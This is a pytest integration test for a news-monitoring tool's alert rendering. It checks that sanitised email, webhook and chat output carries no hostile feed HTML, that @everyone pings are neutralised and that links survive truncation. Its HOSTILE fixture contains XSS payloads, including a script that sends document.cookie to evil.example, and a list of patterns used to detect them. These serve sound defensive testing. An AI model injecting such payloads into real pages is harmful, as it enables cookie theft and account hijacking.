"""Rendering end to end on loopback: an email from aiosmtpd is multipart/alternative with our HTML template
and our text template, hostile feed HTML absent; a webhook gets a neutralised @everyone; an override
template named in a config file is what arrives; a small-limit chat channel gets a cut message whose link
is whole. Real parts: aiosmtpd, HTTP receivers, a feed server, a SQLite file and `news-monitor run --once`.
The item texts are written for this test."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from datetime import UTC, datetime
from html import escape
from pathlib import Path

import pytest

from monitor.delivery.channel import Channel
from monitor.render.fitting import render
from monitor.render.model import Alert, OtherSource
from tests.helpers.feed_server import feed_server
from tests.helpers.servers import smtp_server, webhook_receiver

pytestmark = pytest.mark.integration

HOSTILE = (
    "<p>Troops <b>advanced</b> on the river crossing.</p>"
    "<script>fetch('https://evil.example/steal?c='+document.cookie)</script>"
    "<img src=x onerror=alert(1)>"
    "<a href='javascript:alert(2)'>see the map</a>"
    "<style>body{display:none}</style>"
)
BAD = (
    "<script",
    "document.cookie",
    "onerror",
    "javascript:",
    "<style",
    "display:none",
    "evil.example",
    "<img",
)

ALERT = Alert(
    watch="zeta",
    severity="critical",
    topics=["escalation"],
    place="Zetaland",
    entities=["Zetaland"],
    headline="Artillery shelling hits Amberfield <script>alert(3)</script> @everyone",
    outlet="Zeta Wire",
    published_at=datetime(2020, 9, 27, 14, 5, tzinfo=UTC),
    link="https://zeta.example/news/1?a=1&b=2",
    evidence=['escalation: "shelling" (title)'],
    summary=HOSTILE,
    sources=[OtherSource("Metro", "Amberfield <b>shelled</b>", "https://metro.example/9", copy=True)],
)


def crlf(text: str) -> str:
    return text.replace("\r\n", "\n").rstrip("\n")


def test_email_is_our_html_template_with_our_text_template_as_its_plain_part() -> None:
    """The email is multipart/alternative: the text/html part is exactly our HTML template's output (the
    summary's safe markup kept), the text/plain part exactly our text template's, and no hostile feed
    HTML (script, event handler, javascript: link, style) is anywhere in the message."""
    message = render(ALERT)
    with smtp_server() as smtp:
        outcome = Channel("ops-email", smtp.mailto_url()).send(message)
        [mail] = smtp.messages.wait_for(1)
    assert outcome.ok, outcome.reason
    assert mail.get_content_type() == "multipart/alternative"
    assert [p.get_content_type() for p in mail.iter_parts()] == ["text/plain", "text/html"]
    html, text = mail.part("text/html"), mail.part("text/plain")
    assert html is not None and text is not None
    assert crlf(html) == crlf(message.html)
    assert crlf(text) == crlf(message.text)
    assert "Troops <b>advanced</b> on the river crossing." in html
    assert f'<a href="{escape(ALERT.link)}">' in html
    assert (
        "Why it matched:" in text and "Metro (reprint): Amberfield shelled — https://metro.example/9" in text
    )
    raw = mail.as_string()
    for bad in BAD:
        assert bad not in html and bad not in text and bad not in raw, bad


def test_webhook_gets_text_whose_everyone_mention_is_neutralised() -> None:
    """A json:// webhook receives the text form: the headline's @everyone arrives broken by a zero-width
    space (no ping), in the message and in the title."""
    with webhook_receiver() as hook:
        outcome = Channel("team", hook.json_url("/alerts")).send(render(ALERT))
        [post] = hook.requests.wait_for(1)
    assert outcome.ok, outcome.reason
    payload = post.json()
    for field in ("title", "message"):
        assert "@everyone" not in payload[field]
        assert "@\u200beveryone" in payload[field]
    assert "Artillery shelling hits Amberfield @\u200beveryone" in payload["message"]


# --- the whole program: config overrides and a small-limit channel --------------------------------

RULES = """\
entities:
  zeta: {label: Zetaland, aliases: [Zetaland]}
topics:
  escalation: {query: 'shelling OR artillery', severity: high}
watches:
  - name: zeta
    label: Zetaland
    query: '@zeta'
    topics: [escalation]
    notify: [email, hook, chat]
"""

LONG_SUMMARY = " ".join(
    f"Residents of district {n} described hours of shelling and fires that spread through the old town."
    for n in range(1, 25)
)


def rss(base: str) -> str:
    description = escape(f"<p>{LONG_SUMMARY}</p>{HOSTILE}")
    return (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>Zeta Wire</title>'
        "<item><guid>z-1</guid><title>Artillery shelling hits Amberfield in Zetaland @everyone</title>"
        f"<description>{description}</description><link>{base}/news/z-1?a=1&amp;b=2</link>"
        "<pubDate>Sun, 27 Sep 2020 10:00:00 GMT</pubDate></item></channel></rss>"
    )


def test_config_override_template_arrives_and_a_small_limit_channel_gets_a_whole_link(tmp_path: Path) -> None:
    """`news-monitor run --once` with a feed item carrying hostile HTML and @everyone: the webhook channel
    whose config names an override template receives exactly that template's output; the email channel
    gets our templates with no hostile HTML; the Rocket.Chat channel (Apprise limit 1000 characters,
    subject in the body) gets a message within the limit, the summary shortened and the link whole."""
    (tmp_path / "rules").mkdir()
    (tmp_path / "rules" / "zeta.yaml").write_text(RULES, encoding="utf-8")
    (tmp_path / "tpl").mkdir()
    (tmp_path / "tpl" / "hook.j2").write_text(
        "{{ severity|upper }} | {{ place }} | {{ headline }} | {{ link }} | {{ sources_total }} other(s)\n",
        encoding="utf-8",
    )
    with (
        feed_server() as feeds,
        smtp_server() as smtp,
        webhook_receiver() as hook,
        webhook_receiver() as chat,
    ):
        feeds.put("/rss.xml", rss(feeds.url("")))
        link = f"{feeds.url('')}/news/z-1?a=1&b=2"
        config = tmp_path / "monitor.yaml"
        config.write_text(
            "database: sqlite:///monitor.db\n"
            "poll: {interval: 5m, timeout: 10s, allow_private_networks: true}\n"
            f"feeds:\n  - {{name: zeta-wire, url: '{feeds.url('/rss.xml')}'}}\n"
            "channels:\n"
            f"  email: {{url: '{smtp.mailto_url()}'}}\n"
            f"  hook:\n    url: '{hook.json_url('/alerts')}'\n    templates: {{text: tpl/hook.j2}}\n"
            f"  chat: {{url: 'rocket://abc123/def456@{chat.host}:{chat.port}'}}\n"
            "alerts: {defaults: {max_age: 10000d}}\n"  # the items are dated 2020: not a backlog here (see test_alert_policy_e2e)
            "rules: [rules/*.yaml]\n",
            encoding="utf-8",
        )
        result = subprocess.run(
            [sys.executable, "-m", "monitor", "--log-format", "json", "run", "--once"],
            capture_output=True,
            text=True,
            timeout=120,
            env={**os.environ, "NEWS_MONITOR_CONFIG": str(config)},
            check=False,
        )
        assert result.returncode == 0, result.stdout + result.stderr
        [mail] = smtp.messages.wait_for(1)
        [post] = hook.requests.wait_for(1)
        [chat_post] = chat.requests.wait_for(1)

    assert json.loads(post.body)["message"] == (
        f"HIGH | Zetaland | Artillery shelling hits Amberfield in Zetaland @\u200beveryone | {link} | 0 other(s)"
    )

    html, text = mail.part("text/html"), mail.part("text/plain")
    assert html is not None and text is not None
    assert '<h2 style="font-size: 1.2em">' in html and "Why it matched:" in text  # our templates
    assert "Residents of district 1 described" in html and "Residents of district 1 described" in text
    for bad in BAD:
        assert bad not in mail.as_string(), bad

    assert chat_post.path == "/hooks/abc123/def456"
    body = chat_post.json()["text"]
    assert len(body) <= 1000, len(body)
    assert body.startswith(
        "# [ESCALATION] Zetaland: Artillery shelling hits Amberfield in Zetaland @\u200beveryone"
    )
    assert f"<{link}>" in body
    assert "Residents of district 1 " in body and "district 3 " not in body  # the summary was shortened
    assert "district 3 " in text  # where the email has room for more of it
    assert '"shelling" (title)' in body  # evidence stayed
